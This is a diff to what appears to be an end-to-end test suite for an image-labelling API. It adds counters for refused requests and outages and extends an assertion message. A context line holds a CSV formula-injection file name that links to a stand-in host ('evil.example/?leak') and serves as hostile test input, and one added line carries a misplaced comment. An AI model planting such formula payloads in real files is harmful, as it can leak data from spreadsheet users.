@@ -31,6 +31,8 @@ COUNTS = {
     "lost": 0,
     "hostile_requests": 0,  # request bodies and uploads built to break the API
     "server_errors": 0,  # ... of which answered 5xx (must stay 0)
+    "refused": 0,
+    "outages": 0,  # outages beyond every retry budget, reconciled (tests/e2e/test_reconcile.py)  # requests the local stack refused as AWS would (tests/e2e/test_local_enforcement.py)
 }
 NO_LABELS: dict[str, Any] = {"labels": []}  # for images label detection cannot read: nothing to keep
 CSV_FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak","open me").png'
@@ -183,7 +185,7 @@ def test_bad_input_matrix_through_the_workflow(stack, token_for) -> None:
         image = by_ref[ref]
         outcome = image["status"] if image["status"] == "SUCCEEDED" else image["errorCode"]
         got[name if name not in got else name + " (2)"] = outcome
-        assert outcome == expected, (name, image)
+        assert outcome == expected, (name, image.get("cause"), image)
         assert image["name"] == name  # names are kept as given, never used as keys
         if expected != "SUCCEEDED":
             assert image["cause"] and len(image["cause"]) > 10, (name, image)
